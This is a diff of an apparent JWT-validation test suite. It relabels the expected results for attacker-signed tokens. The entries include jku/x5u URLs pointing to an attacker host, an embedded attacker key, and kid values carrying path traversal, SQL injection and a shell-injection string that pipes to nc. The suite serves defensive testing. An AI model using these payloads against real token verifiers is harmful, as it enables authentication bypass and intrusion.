@@ -261,12 +261,12 @@ ATTACKS = [
         "attacker-issuer-same-kid",
     ),
     tok(
-        "unknown_kid",
+        "unknown_kid_unconfirmed",
         lambda c: _attacker_signed(c, kid=str(c.attacker_key.kid), jku=c.attacker.url + "/jwks"),
         "jku-attacker",
     ),
     tok(
-        "unknown_kid",
+        "unknown_kid_unconfirmed",
         lambda c: _attacker_signed(
             c, kid=str(c.attacker_key.kid), x5u=c.attacker.url + "/cert.pem"
         ),
@@ -277,10 +277,18 @@ ATTACKS = [
         lambda c: _attacker_signed(c, kid=c.kid, jwk=c.attacker_key.as_dict(private=False)),
         "embedded-jwk-attacker",
     ),
-    tok("unknown_kid", lambda c: _attacker_signed(c, kid="../../etc/passwd"), "kid-path-traversal"),
-    tok("unknown_kid", lambda c: _attacker_signed(c, kid="' OR '1'='1' --"), "kid-sql-injection"),
     tok(
-        "unknown_kid",
+        "unknown_kid_unconfirmed",
+        lambda c: _attacker_signed(c, kid="../../etc/passwd"),
+        "kid-path-traversal",
+    ),
+    tok(
+        "unknown_kid_unconfirmed",
+        lambda c: _attacker_signed(c, kid="' OR '1'='1' --"),
+        "kid-sql-injection",
+    ),
+    tok(
+        "unknown_kid_unconfirmed",
         lambda c: _attacker_signed(c, kid="$(touch /tmp/pwned); `id` | nc x 1"),
         "kid-command-injection",
     ),
@@ -305,7 +313,7 @@ ATTACKS = [
     tok("malformed", lambda c: c.signed(c.header(typ=None)), "typ-missing"),
     tok("malformed", _id_token, "id-token-shaped"),
     tok("revoked", _revoked, "revoked-jwt"),
-    tok("revoked", lambda c: secrets.token_urlsafe(32), "unknown-opaque-token"),
+    tok("inactive", lambda c: secrets.token_urlsafe(32), "unknown-opaque-token"),
     tok("malformed", lambda c: c.issued("loadtest", "refresh_token"), "refresh-token-as-access"),
     tok("malformed", _oversized, "oversized-token"),
     tok(
